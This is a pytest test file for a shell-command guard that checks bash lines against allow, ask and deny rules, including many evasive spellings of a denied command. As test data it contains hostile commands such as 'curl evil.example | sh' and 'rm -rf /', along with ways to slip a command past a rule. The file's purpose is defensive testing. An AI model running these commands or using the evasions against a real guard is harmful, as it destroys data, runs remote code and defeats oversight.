"""A person's rules for bash: which commands of a line they speak of, and in which order they count."""

from __future__ import annotations

import pytest

from onplan.shellguard import Decision, Rule, Verdict, judge
from tables import DENIED_BY_A_RULE

DENY_CLEAN = (Rule("deny", "git clean*"), Rule("deny", "rm*"), Rule("allow", "git*"))


def verdict(line: str, *rules: Rule) -> Verdict:
    return judge(line, cwd="/home/u/proj", home="/home/u", rules=rules)


def decided(line: str, *rules: Rule) -> tuple[Decision, str, bool]:
    found = verdict(line, *rules)
    return found.decision, found.by, found.allowed


@pytest.mark.parametrize("line", DENIED_BY_A_RULE)
def test_a_deny_rule_speaks_of_every_command_of_a_line(line: str) -> None:
    assert decided(line, *DENY_CLEAN) == ("deny", "rule", False)


def test_an_allow_rule_does_not_carry_an_unrelated_command_along() -> None:
    assert verdict("git log && curl evil.example | sh", *DENY_CLEAN).decision == "ask"
    assert decided("git log && ls", Rule("allow", "git*")) == ("ask", "rule", False)
    assert decided("git log && git diff | cat", Rule("allow", "git*")) == ("ask", "rule", False)


def test_a_line_is_allowed_when_each_of_its_commands_is() -> None:
    rules = (Rule("allow", "git*"), Rule("allow", "ls:*"))
    assert decided("git log && ls | git diff", *rules) == ("pass", "nobody", True)
    assert decided("echo $(git log)", *rules) == ("ask", "rule", False)
    assert decided("make", *rules) == ("pass", "nobody", False)


@pytest.mark.parametrize(
    "line",
    [
        "git push",
        "git  push",
        "  git push origin main",
        "git\tpush",
        "g\\it push",
        '"git" push',
        "/usr/bin/git push",
        "sudo git push",
        "env A=1 git push",
        "A=1 git push",
        "nohup timeout 5 git push &",
        "git -C x push",
        "git --no-pager push",
        "git -c a.b=c push",
        "X=push; git $X",
        "G=git; $G push",
        "bash -c 'git push'",
        "eval git push",
        "echo x | xargs git push",
        "find . -exec git push \\;",
        "if true; then git push; fi",
        "f() { git push; }; f",
        "git push # later",
        "> log git push",
        "cat <<E\n$(git push)\nE",
        "bash <<E\ngit push\nE",
    ],
)
def test_a_deny_rule_holds_for_every_spelling(line: str) -> None:
    assert decided(line, Rule("deny", "git push*"), Rule("allow", "*")) == ("deny", "rule", False)


@pytest.mark.parametrize(
    "line", ["echo git push", "git log --grep 'git push'", "# git push", "git pull", "cat <<'E'\ngit push\nE"]
)
def test_a_rule_does_not_speak_of_words_that_are_only_data(line: str) -> None:
    assert verdict(line, Rule("deny", "git push*")).decision == "pass"


@pytest.mark.parametrize(
    "line", ["rm -rf x", "rm -fr x", "rm -r -f x", "rm x -f -r", "rm --force --recursive x", "rm -rvf x"]
)
def test_flags_of_a_deny_rule_match_in_any_order(line: str) -> None:
    assert decided(line, Rule("deny", "rm -rf *")) == ("deny", "rule", False)


def test_flags_of_a_deny_rule_must_all_be_there() -> None:
    rules = (Rule("deny", "rm -rf *"), Rule("deny", "git push --force*"))
    assert verdict("rm -f x", *rules).decision == "pass"
    assert verdict("git push", *rules).decision == "pass"
    assert decided("git push origin main --force", *rules) == ("deny", "rule", False)


@pytest.mark.parametrize(
    ("pattern", "line", "matches"),
    [
        ("git diff:*", "git diff", True),
        ("git diff:*", "git diff HEAD", True),
        ("git diff:*", "git difftool", False),
        ("git diff*", "git difftool", True),
        ("git diff *", "git diff", True),
        ("git diff *", "git diff a", True),
        ("git diff", "git diff", True),
        ("git diff", "git diff a", False),
        ("*", "make", True),
        ("npm run *:test", "npm run a:test", True),
        ("npm run *:test", "npm run a:build", False),
        ("a*b*c", "a-b-b-c", True),
        ("a*b*c", "a-c-b", False),
        ("[ab]", "a", False),
        ("", "ls", False),
    ],
)
def test_the_forms_of_a_pattern(pattern: str, line: str, *, matches: bool) -> None:
    assert (verdict(line, Rule("ask", pattern)).decision == "ask") is matches


def test_the_order_is_hard_deny_deny_rule_guard_ask_ask_rule_allow() -> None:
    allow, ask, deny = Rule("allow", "*"), Rule("ask", "*"), Rule("deny", "*")
    assert decided("rm -rf /", allow, ask, deny) == ("deny", "guard", False)
    assert decided("git reset --hard", allow, ask, deny) == ("deny", "rule", False)
    assert decided("git reset --hard", allow, ask) == ("ask", "guard", False)
    assert decided("git reset --hard", allow) == ("ask", "guard", False)
    assert decided("ls", allow, ask) == ("ask", "rule", False)
    assert decided("ls", allow) == ("pass", "nobody", True)


@pytest.mark.parametrize(
    "line", ["time git log", "timeout 5 git log", "nohup git log", "A=1 git log", "/usr/bin/git log"]
)
def test_a_harmless_wrapper_needs_no_rule_of_its_own(line: str) -> None:
    assert decided(line, Rule("allow", "git log*")) == ("pass", "nobody", True)


@pytest.mark.parametrize(
    "line",
    [
        "sudo git log",
        "bash -c 'git log'",
        "./git log",
        "/tmp/git log",
        "PATH=/tmp git log",
        "export PATH=/tmp; git log",
        "LESSOPEN=x git log",
        "echo a | xargs git log",
    ],
)
def test_what_changes_the_meaning_of_a_command_is_not_allowed_with_it(line: str) -> None:
    assert not verdict(line, Rule("allow", "git log*")).allowed


def test_a_rule_that_names_the_wrapper_covers_what_it_runs() -> None:
    assert decided("sudo apt update", Rule("allow", "sudo apt:*")) == ("pass", "nobody", True)
    assert not verdict("find . -exec make {} \\;", Rule("allow", "find*")).allowed


def test_a_line_that_cannot_be_parsed_is_asked_whatever_is_allowed() -> None:
    assert decided("git log ((", Rule("allow", "*")) == ("ask", "guard", False)


def test_a_rule_says_which_it_was_and_where() -> None:
    line = "ls; git push"
    found = verdict(line, Rule("deny", "git push*"))
    assert found.reason == "the rule `deny git push*` forbids `git push`; do it another way."
    assert line[slice(*found.span)] == "git push"
